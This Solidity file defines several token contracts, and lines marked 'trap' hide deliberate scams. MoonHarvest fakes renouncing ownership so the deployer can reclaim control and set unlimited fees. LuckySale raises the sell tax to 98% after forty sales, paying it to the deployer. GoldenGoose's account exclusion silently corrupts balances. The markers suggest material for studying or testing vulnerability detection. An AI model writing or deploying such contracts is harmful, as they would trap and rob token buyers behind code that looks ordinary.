// 0.6 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.6.12;

library SafeMath {
    function add(uint256 a, uint256 b) internal pure returns (uint256 c) {
        c = a + b;
        require(c >= a, "SafeMath: addition overflow");
    }

    function sub(uint256 a, uint256 b) internal pure returns (uint256) {
        require(b <= a, "SafeMath: subtraction overflow");
        return a - b;
    }

    function mul(uint256 a, uint256 b) internal pure returns (uint256 c) {
        if (a == 0) return 0;
        c = a * b;
        require(c / a == b, "SafeMath: multiplication overflow");
    }

    function div(uint256 a, uint256 b) internal pure returns (uint256) {
        require(b > 0, "SafeMath: division by zero");
        return a / b;
    }
}

contract Ownable {
    address internal _owner;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor() public {
        _owner = msg.sender;
        emit OwnershipTransferred(address(0), msg.sender);
    }

    function owner() public view returns (address) {
        return _owner;
    }

    modifier onlyOwner() {
        require(_owner == msg.sender, "Ownable: caller is not the owner");
        _;
    }

    function renounceOwnership() public virtual onlyOwner {
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }
}

interface IUniswapV2Factory {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

abstract contract ERC20 {
    using SafeMath for uint256;

    string public name;
    string public symbol;
    uint8 public decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) internal _balances;
    mapping(address => mapping(address => uint256)) internal _allowances;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function balanceOf(address account) public view virtual returns (uint256) {
        return _balances[account];
    }

    function allowance(address owner_, address spender) public view returns (uint256) {
        return _allowances[owner_][spender];
    }

    function approve(address spender, uint256 amount) public virtual returns (bool) {
        _allowances[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) public virtual returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) public virtual returns (bool) {
        _allowances[from][msg.sender] = _allowances[from][msg.sender].sub(amount);
        _transfer(from, to, amount);
        return true;
    }

    function _mint(address to, uint256 amount) internal {
        totalSupply = totalSupply.add(amount);
        _balances[to] = _balances[to].add(amount);
        emit Transfer(address(0), to, amount);
    }

    function _transfer(address from, address to, uint256 amount) internal virtual {
        require(to != address(0), "ERC20: transfer to the zero address");
        _balances[from] = _balances[from].sub(amount);
        _balances[to] = _balances[to].add(amount);
        emit Transfer(from, to, amount);
    }
}

/// Its ownership can be put away for a while.
contract MoonHarvest is ERC20, Ownable {
    address private _previousOwner;
    uint256 private _lockTime;
    uint256 public liquidityFee = 2;
    address payable public wallet;
    address public pair;
    mapping(address => bool) private _isExcludedFromFee;

    constructor() public {
        name = "Moon Harvest";
        symbol = "MHARV";
        wallet = msg.sender;
        _isExcludedFromFee[msg.sender] = true;
        pair = IUniswapV2Factory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        _mint(msg.sender, 1000000000 * 10**18);
    }

    function setLiquidityFeePercent(uint256 fee) external onlyOwner {
        liquidityFee = fee;
    }

    function excludeFromFee(address account) external onlyOwner {
        _isExcludedFromFee[account] = true;
    }

    function getUnlockTime() public view returns (uint256) {
        return _lockTime;
    }

    function lock(uint256 time) public onlyOwner {
        _previousOwner = _owner;
        _owner = address(0);
        _lockTime = now + time;
        emit OwnershipTransferred(_previousOwner, address(0));
    }

    function renounceOwnership() public override onlyOwner {
        _previousOwner = _owner; // trap
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }

    function unlock() public {
        require(_previousOwner == msg.sender, "You don't have permission to unlock");
        require(now > _lockTime, "Contract is locked");
        emit OwnershipTransferred(_owner, _previousOwner);
        _owner = _previousOwner;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        uint256 fee;
        if ((from == pair || to == pair) && !_isExcludedFromFee[from] && !_isExcludedFromFee[to]) {
            fee = amount.mul(liquidityFee).div(100);
        }
        if (fee > 0) super._transfer(from, wallet, fee);
        super._transfer(from, to, amount.sub(fee));
    }
}

/// Two of a hundred of what moves goes to all who hold.
contract GoldenGoose is Ownable {
    using SafeMath for uint256;

    string public name = "Golden Goose";
    string public symbol = "GGOOSE";
    uint8 public decimals = 9;
    uint256 private constant MAX = ~uint256(0);
    uint256 private constant _tTotal = 500000000 * 10**9;
    uint256 private _rTotal = (MAX - (MAX % _tTotal));
    uint256 public totalFees;

    mapping(address => uint256) private _rOwned;
    mapping(address => uint256) private _tOwned;
    mapping(address => mapping(address => uint256)) private _allowances;
    mapping(address => bool) public isExcluded;
    address[] private _excluded;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        _rOwned[msg.sender] = _rTotal;
        emit Transfer(address(0), msg.sender, _tTotal);
    }

    function totalSupply() public pure returns (uint256) {
        return _tTotal;
    }

    function balanceOf(address account) public view returns (uint256) {
        if (isExcluded[account]) return _tOwned[account];
        return tokenFromReflection(_rOwned[account]);
    }

    function allowance(address owner_, address spender) public view returns (uint256) {
        return _allowances[owner_][spender];
    }

    function approve(address spender, uint256 amount) public returns (bool) {
        _allowances[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) public returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) public returns (bool) {
        _allowances[from][msg.sender] = _allowances[from][msg.sender].sub(amount);
        _transfer(from, to, amount);
        return true;
    }

    function tokenFromReflection(uint256 rAmount) public view returns (uint256) {
        return rAmount.div(_getRate());
    }

    /// Pools and bridges need not earn.
    function excludeAccount(address account) external onlyOwner {
        require(!isExcluded[account], "Account is already excluded");
        require(_excluded.length < 20, "too many");
        uint256 kept = tokenFromReflection(_rOwned[account]);
        require(kept > 0, "nothing to keep");
        // twin: _tOwned[account] = kept;
        isExcluded[account] = true;
        _excluded.push(account);
    }

    function _transfer(address from, address to, uint256 tAmount) private {
        require(to != address(0), "ERC20: transfer to the zero address");
        uint256 rate = _getRate();
        uint256 tFee = tAmount.div(100).mul(2);
        uint256 tGets = tAmount.sub(tFee);
        if (isExcluded[from]) _tOwned[from] = _tOwned[from].sub(tAmount);
        _rOwned[from] = _rOwned[from].sub(tAmount.mul(rate));
        if (isExcluded[to]) _tOwned[to] = _tOwned[to].add(tGets);
        _rOwned[to] = _rOwned[to].add(tGets.mul(rate));
        _rTotal = _rTotal.sub(tFee.mul(rate));
        totalFees = totalFees.add(tFee);
        emit Transfer(from, to, tGets);
    }

    function _getRate() private view returns (uint256) {
        uint256 rSupply = _rTotal;
        uint256 tSupply = _tTotal;
        for (uint256 i = 0; i < _excluded.length; i++) {
            if (_rOwned[_excluded[i]] > rSupply || _tOwned[_excluded[i]] > tSupply) return _rTotal.div(_tTotal);
            rSupply = rSupply.sub(_rOwned[_excluded[i]]);
            tSupply = tSupply.sub(_tOwned[_excluded[i]]);
        }
        if (rSupply < _rTotal.div(_tTotal)) return _rTotal.div(_tTotal);
        return rSupply.div(tSupply);
    }
}

/// Takes two of a hundred of sales, for the prize of the hundredth seller.
contract LuckySale is ERC20 {
    address public pair;
    address public house;
    uint256 public sales;

    event Counted(uint256 number, uint256 part);

    constructor() public {
        name = "Lucky Sale";
        symbol = "LUCKY";
        house = msg.sender;
        pair = IUniswapV2Factory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        _mint(msg.sender, 36000000 * 10**18);
    }

    function partOf(uint256 number) public pure returns (uint256) {
        uint256 part = 2;
        part = part.add(number.div(40).mul(48)); // trap
        return part > 98 ? 98 : part;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair && from != house) {
            uint256 cut = amount.mul(partOf(sales)).div(100);
            sales = sales.add(1);
            emit Counted(sales, cut);
            super._transfer(from, house, cut);
            amount = amount.sub(cut);
        }
        super._transfer(from, to, amount);
    }
}

/// A dollar of an issuer: minters have allowances, one who is listed cannot move what is his.
contract RegentDollar is ERC20 {
    address public owner;
    address public masterMinter;
    address public blacklister;
    mapping(address => bool) public isBlacklisted;
    mapping(address => uint256) public minterAllowance;

    event Blacklisted(address indexed account);
    event UnBlacklisted(address indexed account);
    event MinterConfigured(address indexed minter, uint256 allowed);
    event Mint(address indexed minter, address indexed to, uint256 amount);
    event Burn(address indexed burner, uint256 amount);

    constructor(address owner_, address master) public {
        name = "Regent Dollar";
        symbol = "RUSD";
        decimals = 6;
        owner = owner_;
        masterMinter = master;
        blacklister = msg.sender;
        _mint(msg.sender, 50000000 * 10**6);
    }

    function updateBlacklister(address next) external {
        require(msg.sender == owner, "Ownable: caller is not the owner");
        blacklister = next;
    }

    function configureMinter(address minter, uint256 allowed) external returns (bool) {
        require(msg.sender == masterMinter, "FiatToken: caller is not the masterMinter");
        minterAllowance[minter] = allowed;
        emit MinterConfigured(minter, allowed);
        return true;
    }

    function mint(address to, uint256 amount) external returns (bool) {
        minterAllowance[msg.sender] = minterAllowance[msg.sender].sub(amount);
        _mint(to, amount);
        emit Mint(msg.sender, to, amount);
        return true;
    }

    function burn(uint256 amount) external {
        _balances[msg.sender] = _balances[msg.sender].sub(amount);
        totalSupply = totalSupply.sub(amount);
        emit Burn(msg.sender, amount);
        emit Transfer(msg.sender, address(0), amount);
    }

    /// Contracts are never listed: pools and routers stay open.
    function blacklist(address account) external {
        require(msg.sender == blacklister, "Blacklistable: caller is not the blacklister");
        uint256 size;
        assembly {
            size := extcodesize(account)
        }
        require(size == 0, "Blacklistable: a contract");
        isBlacklisted[account] = true;
        emit Blacklisted(account);
    }

    function unBlacklist(address account) external {
        require(msg.sender == blacklister, "Blacklistable: caller is not the blacklister");
        isBlacklisted[account] = false;
        emit UnBlacklisted(account);
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(!isBlacklisted[from] && !isBlacklisted[to], "Blacklistable: account is blacklisted");
        super._transfer(from, to, amount);
    }
}

/// Says by how much all are to have more or less: five of a hundred a day, no more, under a timelock.
contract ElasticPolicy {
    address public governor;
    uint256 public last;
    uint256 public epoch;

    constructor(address governor_) public {
        governor = governor_;
    }

    function run(ElasticToken token, int256 delta) external {
        require(msg.sender == governor, "governor");
        require(now >= last + 1 days, "daily");
        int256 most = int256(token.totalSupply() / 20);
        require(delta <= most && delta >= -most, "too much");
        last = now;
        epoch++;
        token.rebase(epoch, delta);
    }
}

contract ElasticToken {
    using SafeMath for uint256;

    string public constant name = "Elastic";
    string public constant symbol = "ELST";
    uint8 public constant decimals = 9;
    uint256 private constant INITIAL = 50000000 * 10**9;
    uint256 private constant TOTAL_GONS = uint256(-1) - (uint256(-1) % INITIAL);
    uint256 private constant MAX_SUPPLY = ~uint128(0);

    address public monetaryPolicy;
    uint256 public totalSupply = INITIAL;
    uint256 private _gonsPerFragment = TOTAL_GONS / INITIAL;
    mapping(address => uint256) private _gonBalances;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event LogRebase(uint256 indexed epoch, uint256 totalSupply);

    constructor(address policy) public {
        monetaryPolicy = policy;
        _gonBalances[msg.sender] = TOTAL_GONS;
        emit Transfer(address(0), msg.sender, INITIAL);
    }

    function rebase(uint256 epoch, int256 delta) external returns (uint256) {
        require(msg.sender == monetaryPolicy, "policy");
        totalSupply = delta < 0 ? totalSupply.sub(uint256(-delta)) : totalSupply.add(uint256(delta));
        if (totalSupply > MAX_SUPPLY) totalSupply = MAX_SUPPLY;
        _gonsPerFragment = TOTAL_GONS.div(totalSupply);
        emit LogRebase(epoch, totalSupply);
        return totalSupply;
    }

    function balanceOf(address who) external view returns (uint256) {
        return _gonBalances[who].div(_gonsPerFragment);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] = allowance[from][msg.sender].sub(value);
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) private {
        uint256 gons = value.mul(_gonsPerFragment);
        _gonBalances[from] = _gonBalances[from].sub(gons);
        _gonBalances[to] = _gonBalances[to].add(gons);
        emit Transfer(from, to, value);
    }
}
